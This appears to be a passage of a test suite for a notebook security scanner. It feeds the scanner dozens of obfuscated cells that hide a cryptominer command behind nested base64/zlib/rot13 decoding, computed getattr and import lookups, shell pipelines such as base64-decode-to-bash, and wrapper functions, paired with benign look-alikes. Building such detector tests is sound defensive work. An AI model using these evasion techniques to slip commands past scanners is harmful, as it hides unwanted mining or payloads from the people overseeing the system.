"""Decoding that holds in combination: nested decoders, decoded values kept in
variables, modules and functions reached by computed names, module names
decoded and then imported, and commands passed through the cell's own wrappers.  Each class has evasion cells that must be caught
with the right rule and benign cells using the same machinery that must pass.

The encoded constants are built here from plain text, so each cell says what
it hides.
"""

import base64
import binascii
import codecs
import hashlib
import json
import keyword
import lzma
import marshal
import random
import time
import unicodedata
import zlib

import pytest

from nbwarden import analysis
from nbwarden.engine import Engine

MINER = "xmrig -o pool.example.net:3333 -u WALLET"  # no stratum URL: only the command rule can see it
MINER_RULE = "crypto_mining.miner-program"
CONFIG = '{"lr": 0.001, "epochs": 10}'


def b64(data: str | bytes) -> str:
    return base64.b64encode(data.encode() if isinstance(data, str) else data).decode()


def hexed(text: str) -> str:
    return text.encode().hex()


def rot13(text: str) -> str:
    return codecs.encode(text, "rot13")


def codes(text: str) -> list[int]:
    return [ord(c) for c in text]


def zipped64(text: str) -> str:
    return b64(zlib.compress(text.encode()))


def zipped85(text: str) -> str:
    return base64.b85encode(zlib.compress(text.encode())).decode()


@pytest.fixture(scope="module")
def engine():
    return Engine()


def exec_rules(verdict) -> set[str]:
    """Rules that warn or block on evidence that runs (not a constant that merely decodes to something)."""
    return {f.rule for f in verdict.findings if f.severity in {"warn", "block"} and f.context == "exec"}


def assert_miner_blocked(engine, cell):
    verdict = engine.check_code(cell)
    assert verdict.action == "block" and verdict.category == "crypto_mining", (cell, verdict.to_dict())
    assert MINER_RULE in exec_rules(verdict), (cell, verdict.to_dict())


def assert_allowed(engine, cell):
    verdict = engine.check_code(cell)
    assert verdict.action == "allow", (cell, verdict.to_dict())
    assert not verdict.error


def assert_miner_rule(engine, cells, blocked: bool) -> None:
    """Each cell is blocked with the miner's rule, or (the look-alikes) allowed outright."""
    for cell in cells:
        verdict = engine.check_code(cell)
        assert (verdict.action == "block" and MINER_RULE in {f.rule for f in verdict.findings}) is blocked, \
            (cell, verdict.to_dict())
        if not blocked:
            assert_allowed(engine, cell)


def assert_miner_flagged(engine, cell, flagged, actions=("warn", "block")):
    """The cell is flagged as mining (warned or blocked, or only the ``actions`` given) exactly when ``flagged``."""
    verdict = engine.check_code(cell)
    assert (verdict.action in actions and verdict.category == "crypto_mining") == flagged, (cell, verdict.to_dict())


# ---------------------------------------------------------------------------
# Two and three decoders nested

NESTED = {
    "zlib of base64": f"import base64, os, zlib\nos.system(zlib.decompress(base64.b64decode('{zipped64(MINER)}')).decode())",
    "rot13 of base64": "import base64, codecs, os\n"
                       f"os.system(codecs.decode(base64.b64decode('{b64(rot13(MINER))}').decode(), 'rot13'))",
    "hex of reversed base64 of reversed": "import base64, os\n"
                                          f"blob = '{b64(hexed(MINER)[::-1])[::-1]}'\n"
                                          "os.system(bytes.fromhex(base64.b64decode(blob[::-1]).decode()[::-1]).decode())",
    "chr list of a reversed string": f"import os\nos.system(''.join(chr(c) for c in {codes(MINER[::-1])}[::-1]))",
    "fromhex then reversed": f"import os\nos.system(bytes.fromhex('{hexed(MINER[::-1])}')[::-1].decode())",
    "map chr then reversed": f"import os\nos.system(''.join(map(chr, {codes(MINER[::-1])}))[::-1])",
    "b85 of zlib": f"import base64, os, zlib\nos.system(zlib.decompress(base64.b85decode('{zipped85(MINER)}')).decode())",
    "lzma of base64": f"import base64, lzma, os\nos.system(lzma.decompress(base64.b64decode('{b64(lzma.compress(MINER.encode()))}')).decode())",
    "decoders imported under other names": "from base64 import b64decode as unb\nfrom zlib import decompress as unz\n"
                                           f"import os\nos.system(unz(unb('{zipped64(MINER)}')).decode())",
    "decoders reached through __import__": "import os\n"
                                           f"os.system(__import__('zlib').decompress(__import__('base64').b64decode('{zipped64(MINER)}')).decode())",
    "str of bytes with an encoding": f"import base64, codecs, os\nos.system(codecs.decode(str(base64.b64decode('{b64(rot13(MINER))}'), 'utf-8'), 'rot_13'))",
    "comma list of codes split and mapped": "import os\n"
                                            f"os.system(''.join(chr(int(n)) for n in '{','.join(map(str, codes(MINER)))}'.split(',')))",
    "shifted codes through a lambda": "import os\n"
                                      f"os.system(''.join(map(lambda c: chr(c - 3), {[c + 3 for c in codes(MINER)]})))",
    "uu of a reversed line": "import binascii, os\n"
                             f"os.system(binascii.a2b_uu({binascii.b2a_uu(MINER.encode()).decode()[::-1]!r}[::-1]).decode())",
    "exec of zlib of base64": "import base64, zlib\n"
                              f"exec(zlib.decompress(base64.b64decode('{zipped64(f'import os; os.system({MINER!r})')}')))",
}


@pytest.mark.parametrize("cell", NESTED.values(), ids=NESTED.keys())
def test_nested_decoders_are_followed(engine, cell):
    assert_miner_blocked(engine, cell)


NESTED_BENIGN = {
    "zlib of base64 JSON config": "import base64, json, zlib\n"
                                  f"config = json.loads(zlib.decompress(base64.b64decode('{zipped64(CONFIG)}')))",
    "base64 image bytes": "import base64, io\nfrom PIL import Image\n"
                          f"img = Image.open(io.BytesIO(base64.b64decode('{b64(bytes(range(64)))}')))",
    "rot13 of base64 riddle": "import base64, codecs\n"
                              f"print(codecs.decode(base64.b64decode('{b64(rot13('the answer is 42'))}').decode(), 'rot13'))",
    "reversed hex digest": "import hashlib\nd = hashlib.sha256(b'abc').hexdigest()\nprint(bytes.fromhex(d)[::-1].hex())",
    "map chr banner": f"banner = ''.join(map(chr, {codes('training done')}))[::-1]\nprint(banner)",
    "decoded shell command that is allowed": f"import base64, os, zlib\nos.system(zlib.decompress(base64.b64decode('{zipped64('nvidia-smi -L')}')).decode())",
}


@pytest.mark.parametrize("cell", NESTED_BENIGN.values(), ids=NESTED_BENIGN.keys())
def test_nested_decoders_on_ordinary_data_are_allowed(engine, cell):
    assert_allowed(engine, cell)


# ---------------------------------------------------------------------------
# Decoded values kept in variables and used later in the cell

VARIABLES = {
    "across statements": "import base64, codecs, os\n"
                         f"raw = base64.b64decode('{b64(rot13(MINER))}')\ntext = raw.decode()\n"
                         "ready = True\n\nif ready:\n    cmd = codecs.decode(text, 'rot13')\n    os.system(cmd)",
    "in an f-string": "import codecs, os\n"
                      f"tool = codecs.decode('{rot13('xmrig')}', 'rot13')\nos.system(f'./{{tool}} -o pool.example.net:3333')",
    "a program name kept as a big integer and turned back into bytes":
        "import subprocess\n_n = lambda v, k: v.to_bytes(k, 'big').decode()\n"
        f"subprocess.run([_n({int.from_bytes(b'xmrig', 'big')}, 5), '-o', 'pool.example.net:3333'])",
    "base64 pieces sorted back into order by their keys":
        "import base64, os\n"
        f"parts = {{'p2': '{b64(MINER)[8:]}', 'p1': '{b64(MINER)[:8]}'}}\n"
        "os.system(base64.b64decode(''.join(v for _, v in sorted(parts.items()))).decode())",
    "in a subprocess list": "import subprocess\n"
                            f"prog = bytes.fromhex('{hexed('xmrig')[::-1]}'[::-1]).decode()\n"
                            "subprocess.run([prog, '-o', 'pool.example.net:3333'])",
    "built by augmented assignment": "import os\n"
                                     f"cmd = ''.join(map(chr, {codes('xm')}))\ncmd += 'gir'[::-1]\ncmd += ' -o pool:1'\nos.system(cmd)",
    "argv list extended": "import subprocess\n"
                          f"argv = ['{'xmrig'[::-1]}'[::-1]]\nargv += ['-o', 'pool:1']\nsubprocess.Popen(argv)",
    "in a dict looked up by key": "import base64, os\n"
                                  f"steps = {{'check': 'ls', 'go': base64.b64decode('{b64(MINER)}').decode()}}\n"
                                  "os.system(steps['go'])",
    "dict item assigned later": f"import os\nsteps = {{}}\nsteps['go'] = '{MINER[::-1]}'[::-1]\nos.system(steps.get('go'))",
    "in a list looked up by index": "import os, zlib, base64\n"
                                    f"parts = ['ls', zlib.decompress(base64.b64decode('{zipped64(MINER)}')).decode()]\n"
                                    "os.system(parts[1])",
    "tuple unpacking": f"import base64, os\nprog, rest = base64.b64decode('{b64('xmrig')}').decode(), ' -o pool:1'\nos.system(prog + rest)",
    "a lambda decoder": f"import base64, os\nd = lambda s: base64.b64decode(s[::-1]).decode()\nos.system(d('{b64(MINER)[::-1]}'))",
    "a one-line def decoder": "import base64, os, zlib\n\ndef unpack(blob):\n    \"\"\"Helper.\"\"\"\n"
                              "    return zlib.decompress(base64.b64decode(blob)).decode()\n\n"
                              f"payload = '{zipped64(MINER)}'\nos.system(unpack(payload))",
    # the variable is bound again after the call: the call ran with the value it had there
    "re-bound after it ran": f"import os\ncmd = '{MINER[::-1]}'[::-1]\nos.system(cmd)\ncmd = 'ls -la'\nos.system(cmd)",
    "re-bound in a list after it ran": f"import base64, subprocess\nargv = [base64.b64decode('{b64('xmrig')}').decode()]\n"
                                       "subprocess.run(argv + ['-o', 'pool:1'])\nargv = ['nvidia-smi']\nsubprocess.run(argv)",
    "a decoder bound to bytes.fromhex": f"import os\nh = bytes.fromhex\nos.system(h('{hexed(MINER)}').decode())",
    "a name the exec namespace gives the decoded code": "import base64, json, os\n"
        f"os.environ.setdefault('JOB', json.dumps({{'cmd': '{MINER[::-1]}'[::-1]}}))\n"
        "ns = {'CFG': json.loads(os.environ['JOB'])}\n"
        f"exec(base64.b64decode('{b64('import os; os.system(CFG[' + repr('cmd') + '])')}').decode(), ns)",
    "an environment value set by default, read back": f"import os\nos.environ.setdefault('J', '{MINER[::-1]}'[::-1])\n"
                                                      "os.system(os.environ['J'])",
    "a program found on PATH by a decoded name": "import os, shutil\nexe = shutil.which('girmx'[::-1])\n"
                                                 "os.spawnv(os.P_NOWAIT, exe, [exe, '-o', 'pool:1'])",
}


@pytest.mark.parametrize("cell", VARIABLES.values(), ids=VARIABLES.keys())
def test_decoded_values_in_variables_are_followed(engine, cell):
    assert_miner_blocked(engine, cell)


def test_a_name_joined_inside_a_call_argument_is_read(engine):
    """A model file's name split into pieces inside the call (no variable) is read joined, like one assigned first;
    pieces of an ordinary name joined the same way stay allowed."""
    hidden = ("import importlib\nins = importlib.import_module('insight' + 'face')\n"
              "swap = getattr(ins.model_zoo, 'get_' + 'model')('/content/' + 'inswap' + 'per_128.onnx')")
    verdict = engine.check_code(hidden)
    assert verdict.action == "block" and "deepfake.inswapper-model" in {f.rule for f in verdict.findings}, \
        verdict.to_dict()
    plain = "import pandas as pd\nframe = pd.read_csv('/content/' + 'faces' + '_128.csv')\nprint('swap' + 'per')"
    assert engine.check_code(plain).action == "allow"


VARIABLES_BENIGN = {
    "a number turned into bytes for a checksum": "import zlib\ncrc = zlib.crc32(b'data')\n"
                                                 "print(crc.to_bytes(4, 'big').hex(), (255).to_bytes(2, 'little'))",
    "pieces sorted back into order, for an allowed command":
        "import base64, os\n"
        f"parts = {{'p2': '{b64('ls -la /content')[8:]}', 'p1': '{b64('ls -la /content')[:8]}'}}\n"
        "os.system(base64.b64decode(''.join(v for _, v in sorted(parts.items()))).decode())",
    "decoded command in a variable": f"import base64, os\ncmd = base64.b64decode('{b64('ls -la /content')}').decode()\nos.system(cmd)",
    "decoded argv in a dict": "import subprocess, codecs\n"
                              f"tools = {{'gpu': codecs.decode('{rot13('nvidia-smi')}', 'rot13')}}\nsubprocess.run([tools['gpu'], '-L'])",
    "augmented path": "import os\nroot = '/content'\nroot += '/data'\nos.makedirs(root, exist_ok=True)\nprint(''.join(reversed(root)))",
    "lambda over data": f"import base64\nd = lambda s: base64.b64decode(s)\nweights = d('{b64(bytes(32))}')",
    "re-bound before it ran": f"import os\ncmd = '{MINER[::-1]}'[::-1]\ncmd = 'ls -la'\nos.system(cmd)",
    "an exec namespace with an ordinary command": "import base64\n"
        f"exec(base64.b64decode('{b64('import os; os.system(CFG[' + repr('cmd') + '])')}').decode(), {{'CFG': {{'cmd': 'nvidia-smi'}}}})",
    "an environment default that is an ordinary command": "import os\nos.environ.setdefault('J', 'nvidia-smi -L')\n"
                                                           "os.system(os.environ['J'])",
    "a program found on PATH by a decoded name, an ordinary one": "import os, shutil\nexe = shutil.which('ims-aidivn'[::-1])\n"
                                                                  "os.spawnv(os.P_NOWAIT, exe, [exe, '-L'])",
    "bytes.fromhex bound to a name, on a hash": "h = bytes.fromhex\ndigest = h('9f86d081884c7d659a2feaa0c55ad015')\n"
                                                "print(digest.hex())",
}


@pytest.mark.parametrize("argv,script,expected", [
    # a face photo and a driving video handed to the reenactment script that runpy runs in-process
    ("['x', '-s', 'her_photo.jpg', '-d', 'speech.mp4']", "run_path('LivePortrait/inference.py')",
     ("python", "LivePortrait/inference.py", "-s", "her_photo.jpg", "-d", "speech.mp4")),
    ("['x', '--epochs', '3']", "run_module('train', run_name='__main__')", ("python", "-m", "train", "--epochs", "3")),
])
def test_runpy_runs_a_script_with_the_cells_argv(argv, script, expected):
    cell = f"import runpy, sys\nsys.argv = {argv}\nrunpy.{script}"
    assert expected in [f.value for f in analysis.analyze(cell).facts if f.kind == "command"]


def test_runpy_of_a_reenactment_script_is_flagged_and_of_training_is_not(engine):
    cell = ("import runpy, sys\nsys.argv = ['x', '-s', '/content/her_photo.jpg', '-d', '/content/speech.mp4']\n"
            "runpy.run_path('LivePortrait/inference.py', run_name='__main__')")
    verdict = engine.check_code(cell)
    assert verdict.action == "warn" and verdict.category == "deepfake", verdict.to_dict()
    plain = "import runpy, sys\nsys.argv = ['x', '--data', 'faces.csv', '--epochs', '3']\nrunpy.run_path('train.py')"
    assert engine.check_code(plain).action == "allow"


@pytest.mark.parametrize("cell", VARIABLES_BENIGN.values(), ids=VARIABLES_BENIGN.keys())
def test_decoded_ordinary_values_in_variables_are_allowed(engine, cell):
    assert_allowed(engine, cell)


# ---------------------------------------------------------------------------
# Modules and functions reached by computed names

LOOKUPS = {
    "getattr(os, decoded)(decoded)": "import codecs, os\n"
                                     f"name = codecs.decode('{rot13('system')}', 'rot13')\n"
                                     f"line = codecs.decode('{rot13(MINER)}', 'rot13')\ngetattr(os, name)(line)",
    "getattr on __import__ of decoded": f"getattr(__import__('so'[::-1]), 'metsys'[::-1])('{MINER[::-1]}'[::-1])",
    "getattr on import_module of hex": "import importlib\n"
                                       f"run = getattr(importlib.import_module(bytes.fromhex('{hexed('os')}').decode()), "
                                       f"''.join(map(chr, {codes('system')})))\nrun('{MINER[::-1]}'[::-1])",
    "getattr of subprocess with an argv": "import subprocess\n"
                                          f"getattr(subprocess, 'nepoP'[::-1])(['{'xmrig'[::-1]}'[::-1], '-o', 'pool:1'])",
    "vars(os)[decoded]": f"import os\nvars(os)['metsys'[::-1]]('{MINER[::-1]}'[::-1])",
    "vars(os) kept in a name, then a decoded key": f"import os\nops = vars(os)\nops['po' + 'pen']('{MINER[::-1]}'[::-1])",
    "os.__dict__[decoded]": f"import os\nos.__dict__[bytes.fromhex('{hexed('popen')}').decode()]('{MINER[::-1]}'[::-1])",
    "globals()['__builtins__'] to __import__": "globals()['__builtins__'].__dict__['__import__']('so'[::-1])"
                                               f".system('{MINER[::-1]}'[::-1])",
    "sys.modules[decoded]": f"import sys, os\nsys.modules['so'[::-1]].system('{MINER[::-1]}'[::-1])",
    "function kept in a variable": f"import os\nrunner = getattr(os, 'metsys'[::-1])\nrunner('{MINER[::-1]}'[::-1])",
    "eval of a decoded dotted name": f"import os\neval('metsys.so'[::-1])('{MINER[::-1]}'[::-1])",
    "IPython shell kept in a variable": f"import codecs\nip = get_ipython()\nip.system(codecs.decode('{rot13(MINER)}', 'rot13'))",
    "subprocess under another name": "import subprocess as sp, codecs\n"
                                     f"argv = [codecs.decode('{rot13('xmrig')}', 'rot13'), '-o', 'pool:1']\nready = 1\nsp.run(argv)",
    "a lambda handed the runner": f"import os\n(lambda f: f('{MINER[::-1]}'[::-1]))(getattr(os, 'metsys'[::-1]))",
    "a lambda handed the command": f"import os\n(lambda run, c: run(c))(os.system, '{MINER[::-1]}'[::-1])",
    "getattr of builtins exec": "import builtins\n"
                                f"getattr(builtins, 'cexe'[::-1])(\"import os; os.system('{MINER[::-1]}'[::-1])\")",
    "operator.methodcaller of a decoded name": "import operator, os\n"
                                               f"operator.methodcaller('metsys'[::-1], '{MINER[::-1]}'[::-1])(os)",
    "a methodcaller kept in a name": f"from operator import methodcaller\nimport os\ngo = methodcaller('popen', '{MINER}')\n"
                                     "go(os)",
    "fields of a format string made by a mapping's __missing__ hook":
        "import base64, os\nclass Cfg(dict):\n    def __missing__(self, key):\n"
        "        return base64.b64decode(key[1:]).decode()\n"
        f"os.system('{{k{b64('xmrig')}}} -o pool.example.net:3333 -u {{user}}'.format_map(Cfg(user='w')))",
    "builtins' namespace kept in a name, methods called through their types":
        "import builtins\n_B = vars(builtins)\n"
        f"_B['exec'](_B['bytes'].decode(_B['int'].to_bytes({int.from_bytes(('import os; os.system(' + repr(MINER) + ')').encode(), 'big')}, "
        f"{len('import os; os.system(' + repr(MINER) + ')')}, 'big')))",
}


@pytest.mark.parametrize("cell", LOOKUPS.values(), ids=LOOKUPS.keys())
def test_computed_lookups_are_resolved(engine, cell):
    assert_miner_blocked(engine, cell)


LOOKUPS_BENIGN = {
    "getattr for an optimizer": "import torch\nname = 'madA'[::-1]\n"
                                "opt = getattr(torch.optim, name)(model.parameters(), lr=1e-3)\nact = getattr(torch.nn, cfg['act'])()",
    "getattr(os, decoded) for a harmless call": f"import os, base64\nprint(getattr(os, base64.b64decode('{b64('getcwd')}').decode())())",
    "getattr(os, system) for an allowed command": "import os\ngetattr(os, 'metsys'[::-1])('nvidia-smi')",
    "vars(os) kept in a name for an allowed command": "import os\nops = vars(os)\nops['po' + 'pen']('nvidia-smi').read()",
    "vars of argparse args": "import argparse\nargs = parser.parse_args()\nlr = vars(args)['lr'[::-1][::-1]]",
    "attribute by name on a model": "layer = getattr(model, ''.join(['f', 'c']))\nout = layer(x)",
    "a lambda handed the runner for an allowed command": "import os\n(lambda f: f('nvidia-smi'))(os.system)",
    "operator.methodcaller for an allowed command": "import operator, os\n"
                                                    "operator.methodcaller('metsys'[::-1], 'nvidia-smi')(os)",
    "methodcaller over a list of strings": "from operator import methodcaller\nclean = methodcaller('strip', ' \\n')\n"
                                           "names = [clean(n) for n in open('names.txt')]",
    "fields of a format string made by a mapping's __missing__ hook, for an ordinary command":
        "import base64, os\nclass Cfg(dict):\n    def __missing__(self, key):\n"
        "        return base64.b64decode(key[1:]).decode()\n"
        f"os.system('{{k{b64('nvidia-smi')}}} -L'.format_map(Cfg()))",
    "builtins' namespace kept in a name, for an ordinary print":
        "import builtins\n_B = vars(builtins)\n"
        f"_B['exec'](_B['bytes'].decode(_B['int'].to_bytes({int.from_bytes(b'print(42)', 'big')}, 9, 'big')))",
}


@pytest.mark.parametrize("cell", LOOKUPS_BENIGN.values(), ids=LOOKUPS_BENIGN.keys())
def test_ordinary_computed_lookups_are_allowed(engine, cell):
    assert_allowed(engine, cell)


# ---------------------------------------------------------------------------
# Module names decoded and then imported

IMPORTED = {
    "__import__ of a chr list, then m.run": f"m = __import__(''.join(map(chr, {codes('subprocess')})))\n"
                                            f"m.run(['{'xmrig'[::-1]}'[::-1], '-o', 'pool:1'])",
    "import_module of hex, then m.system": "import importlib\n"
                                           f"m = importlib.import_module(bytes.fromhex('{hexed('os')}').decode())\n"
                                           f"m.system('{MINER[::-1]}'[::-1])",
    "import_module from an alias, later statement": "from importlib import import_module as load\nimport base64\n"
                                                    f"name = base64.b64decode('{b64('subprocess')}').decode()\n"
                                                    "proc = load(name)\nx = 1\n"
                                                    f"proc.Popen(['{'xmrig'[::-1]}'[::-1], '-o', 'pool:1'])",
    "names unpacked from map(__import__, ...)": "o, sp = map(__import__, ('os', 'subprocess'))\n"
                                                f"sp.Popen(['{'xmrig'[::-1]}'[::-1], '-o', 'pool:1'])",
    "names unpacked from a generator of import_module over reversed names":
        "import importlib\n"
        f"o, sp = (importlib.import_module(m[::-1]) for m in ('so', '{'subprocess'[::-1]}'))\n"
        f"sp.run(['{'xmrig'[::-1]}'[::-1], '-o', 'pool:1'])",
    "names unpacked from list(map(<lambda import wrapper>, ...))":
        "load = lambda s: __import__(s[::-1])\n"
        f"o, sp = list(map(load, ('so', '{'subprocess'[::-1]}')))\nsp.call(['{'xmrig'[::-1]}'[::-1], '-o', 'pool:1'])",
}


@pytest.mark.parametrize("cell", IMPORTED.values(), ids=IMPORTED.keys())
def test_decoded_module_names_are_aliased(engine, cell):
    assert_miner_blocked(engine, cell)


DECODED_IMPORTS = {
    "import_module of base64": "import importlib, base64\n"
                               f"rc = importlib.import_module(base64.b64decode('{b64('remocolab')}').decode())\nrc.setupSSHD()",
    "__import__ of rot13": f"import codecs\nrc = __import__(codecs.decode('{rot13('remocolab')}', 'rot13'))\nrc.setupVNC()",
    "import_module reached by getattr": "getattr(__import__('importlib'), 'import_module')"
                                        f"(''.join(map(chr, {codes('remocolab')})))",
}


@pytest.mark.parametrize("cell", DECODED_IMPORTS.values(), ids=DECODED_IMPORTS.keys())
def test_decoded_imports_are_matched_by_import_rules(engine, cell):
    verdict = engine.check_code(cell)
    assert "remote_desktop_ssh.remocolab" in exec_rules(verdict) and verdict.action == "block", verdict.to_dict()


@pytest.mark.parametrize("cell,module", [
    (f"import importlib, base64\nlt = importlib.import_module(base64.b64decode('{b64('libtorrent')}').decode())", "libtorrent"),
    (f"m = __import__(bytes.fromhex('{hexed('insightface')[::-1]}'[::-1]).decode())\napp = m.app.FaceAnalysis()",
     "insightface"),
    ("from importlib import import_module as load\n"
     f"swap = load('.'.join([bytes.fromhex('{hexed('insightface')}').decode(), 'model_zoo']))", "insightface.model_zoo"),
    (f"import importlib\nload = lambda s: importlib.import_module(s[::-1])\nlt = load('{'libtorrent'[::-1]}')",
     "libtorrent"),
    (f"import importlib\nload = lambda s: importlib.import_module(s[::-1])\nj, lt = map(load, ('nosj', '{'libtorrent'[::-1]}'))",
     "libtorrent"),
])
def test_decoded_imports_are_import_facts(cell, module):
    facts = analysis.analyze(cell).facts
    assert any(f.kind == "import" and f.value == module and f.context == "exec" for f in facts), facts


@pytest.mark.parametrize("cell", [
    "import importlib\nnp = importlib.import_module('numpy')\nnp.zeros(3)",
    f"import base64\nm = __import__(base64.b64decode('{b64('json')}').decode())\nprint(m.dumps({{'a': 1}}))",
    f"sp = __import__(''.join(map(chr, {codes('subprocess')})))\nsp.run(['nvidia-smi', '-L'])",
    "import importlib\nfor name in ['torch', 'numpy']:\n    mod = importlib.import_module(name)\n    print(mod.__version__)",
    "o, sp = map(__import__, ('os', 'subprocess'))\nsp.run(['nvidia-smi', '-L'])",
    "load = lambda s: __import__(s[::-1])\nnp, pd = list(map(load, ('ypmun', 'sadnap')))\nprint(np.zeros(3), pd.__version__)",
    "a, b = map(int, ('1', '2'))\nw, h = (int(v) for v in ('640', '480'))\nprint(a + b, w * h)",
])
def test_ordinary_dynamic_imports_are_allowed(engine, cell):
    assert_allowed(engine, cell)


def test_decoded_import_resolves_later_calls():
    cell = f"m = __import__(bytes.fromhex('{hexed('subprocess')}').decode())\nm.check_output(['ls'])"
    facts = analysis.analyze(cell).facts
    assert ("import", "subprocess") in {(f.kind, f.value) for f in facts}
    assert any(f.kind == "command" and f.value[0] == "ls" and "subprocess.check_output" in f.via for f in facts)


# ---------------------------------------------------------------------------
# More ways to assemble a command: dict values, str.translate, a list reversed in place, a variable the cell
# put in os.environ, a shell pipeline that decodes the line it runs, comprehensions with filters or pairs,
# integer arithmetic (a Caesar shift), format specs and shlex.split

def interleave(text: str) -> tuple[str, str]:
    return text[0::2], text[1::2] + " "


ASSEMBLED = {
    "a shell variable set and read on one line": "!t=xmrig; $t -o pool.example.net:3333 -u WALLET",
    "a template kept in a name, formatted with unknown parts": "import os\nRUN = 'xmrig -o {pool} -u WALLET'\n"
                                                              "os.system(RUN.format(pool=pick_pool()))",
    "a class attribute's template through %": "import os\nclass Cfg:\n    LINE = 'xmrig -o %s -u %s'\n"
                                              "os.system(Cfg.LINE % (pool, wallet))",
    "dict values joined": "import os\nparts = {'a': 'xm', 'b': 'rig -o ', 'c': 'pool.example.net:3333 -u WALLET'}\n"
                          "os.system(''.join(parts.values()))",
    "translate with maketrans": "import os\nplain, shifted = 'abcdefghijklmnopqrstuvwxyz', 'bcdefghijklmnopqrstuvwxyza'\n"
                                f"os.system('{MINER.translate(str.maketrans('bcdefghijklmnopqrstuvwxyza', 'abcdefghijklmnopqrstuvwxyz'))}'"
                                ".translate(str.maketrans(plain, shifted)))",
    "list reversed in place": f"import os\nwords = {MINER.split()[::-1]!r}\nwords.reverse()\nos.system(' '.join(words))",
    "program in os.environ": "import os\nos.environ['TOOL'] = 'xm' + 'rig'\nos.system('$TOOL -o pool.example.net:3333 -u WALLET')",
    "echo | base64 -d | bash": f"!echo {b64(MINER)} | base64 -d | bash",
    "base64 -d here-string": f"%%bash\nbase64 --decode <<< {b64(MINER)} | sh",
    "echo | rev | sh": f"!echo '{MINER[::-1]}' | rev | sh",
    "functools.reduce of operator.add": "import os, functools, operator\n"
                                        f"os.system(functools.reduce(operator.add, {[MINER[:3], MINER[3:9], MINER[9:]]!r}))",
    "class attribute": f"import subprocess\nclass Job:\n    tool = 'xm' + 'rig'\n    args = '{MINER[6:]}'\n"
                       "subprocess.run(Job.tool + ' ' + Job.args, shell=True)",
    "attribute set on self": f"import os\nclass Job:\n    def __init__(self):\n        self.line = '{MINER[::-1]}'[::-1]\n"
                             "    def go(self):\n        os.system(self.line)\nJob().go()",
    "filtered generator": "import os\nos.system(''.join(c for c in '" + "Q".join(MINER) + "' if c != 'Q'))",
    "caesar shift": "import os\nsecret = '" + "".join(chr((ord(c) - 97 + 3) % 26 + 97) if c.islower() else c for c in MINER)
                    + "'\nos.system(''.join(chr((ord(c) - 97 - 3) % 26 + 97) if c.islower() else c for c in secret))",
    "pairs zipped back together": "import os\nodd, even = {!r}, {!r}\n".format(*interleave(MINER))
                                  + "os.system(''.join(a + b for a, b in zip(odd, even)).strip())",
    "format spec c": "import os\nos.system(''.join(f'{n:c}' for n in " + str(codes(MINER)) + "))",
    "format() with spec c": "import os\nos.system(''.join(format(n, 'c') for n in " + str(codes(MINER)) + "))",
    "shlex split of a built line": "import shlex, subprocess\nline = 'xm' + 'rig -o pool.example.net:3333 -u WALLET'\n"
                                   "subprocess.run(shlex.split(line))",
    "options from a dict's items": "import os\nopts = {'o': 'pool.example.net:3333', 'u': 'WALLET'}\n"
                                   "os.system(' '.join(['xm' + 'rig'] + [f'-{k} {v}' for k, v in opts.items()]))",
}


@pytest.mark.parametrize("cell", ASSEMBLED.values(), ids=ASSEMBLED.keys())
def test_assembled_commands_are_read(engine, cell):
    assert_miner_blocked(engine, cell)


@pytest.mark.parametrize("cell", [
    "labels = {'a': 'cat', 'b': 'dog'}\nprint(', '.join(labels.values()))",
    "secret = 'uryyb'.translate(str.maketrans('abcdefghijklmnopqrstuvwxyz', 'nopqrstuvwxyzabcdefghijklm'))\nprint(secret)",
    "import os\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'\nos.system('echo $CUDA_VISIBLE_DEVICES && nvidia-smi')",
    f"!echo {b64('hello world')} | base64 -d",
    f"!echo {b64('nvidia-smi -L')} | base64 -d | bash",
    "import functools, operator\nprint(functools.reduce(operator.add, ['train', '-', 'val']))",
    "import subprocess\nclass Job:\n    tool = 'nvidia' + '-smi'\nsubprocess.run(Job.tool, shell=True)",
    "import os\nos.system(''.join(c for c in 'lQs -la' if c != 'Q'))",
    "rows = [a + b for a, b in zip(['x', 'y'], ['1', '2'])]\nprint(rows)",
    "print(''.join(f'{n:c}' for n in [104, 105]))",
    "print(''.join(format(n, 'c') for n in [104, 105]), format(255, '08b'))",
    "import os\nos.system(f'echo {1:999999999}')",  # a width that would only pad is not built
    "import shlex, subprocess\nsubprocess.run(shlex.split('python train.py --epochs 3'))",
    "print([(n * 7) % 26 for n in range(5)])",
    "import subprocess\nopts = {'epochs': '3', 'lr': '0.1'}\n"
    "subprocess.run(['python', 'train.py'] + [f'--{k}={v}' for k, v in opts.items()])",
    "import os\nRUN = 'nvidia-smi --id={gpu}'\nos.system(RUN.format(gpu=pick_gpu()))",
    "!d=/content/data; ls $d && echo 'a;b'",
])
def test_assembled_ordinary_commands_are_allowed(engine, cell):
    assert_allowed(engine, cell)


# ---------------------------------------------------------------------------
# The cell's own command wrappers: a call of a function that hands its parameter to the shell, to
# subprocess or to exec is read as the command it runs

WRAPPED = {
    "def with shell=True": f"import subprocess\ndef sh(c):\n    print('$', c)\n    subprocess.run(c, shell=True, check=True)\nsh('{MINER}')",
    "lambda over os.system with a template": f"import os\nbg = lambda c: os.system(f'nohup {{c}} > run.log 2>&1 &')\nbg('{MINER}')",
    "varargs into Popen": "import subprocess as _s\nrun = lambda *a: _s.Popen(list(a))\n"
                          f"run({', '.join(repr(w) for w in MINER.split())})",
    "wrapper of a wrapper": f"import os\ndef sh(c):\n    return os.system(c)\ndef go(cmd):\n    sh(cmd)\ngo('{MINER}')",
    "decoded argument to a wrapper": f"import os, base64\ndef sh(c):\n    os.system(c)\nsh(base64.b64decode('{b64(MINER)}').decode())",
    "keyword argument to a wrapper": f"import subprocess\ndef run(cmd, quiet=True):\n    subprocess.check_call(cmd, shell=True)\nrun(cmd='{MINER}')",
    "exec wrapper": f"def py(code):\n    exec(code)\npy(\"import os; os.system('{MINER}')\")",
    "function chosen by a condition": f"ex = getattr(__builtins__, 'cexe'[::-1]) if 1 else None\nex(\"import os; os.system('{MINER}')\")",
    "a method of the cell's own class": f"import subprocess\nclass Job:\n    def start(self, c):\n"
                                        f"        return subprocess.Popen(c, shell=True)\nJob().start('{MINER}')",
    "a method called on an instance kept in a name": f"import os\nclass Box:\n    def go(self, line):\n        os.system(line)\n"
                                                     f"b = Box()\nb.go('{MINER}')",
    "a table of runner functions": f"import os\nrun = {{'go': os.system}}\nrun['go']('{MINER}')",
    "the C library's system through ctypes": f"import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nlibc.system(b'{MINER}')",
    "IPython's own system helper": f"from IPython.utils.process import system\nsystem('{MINER}')",
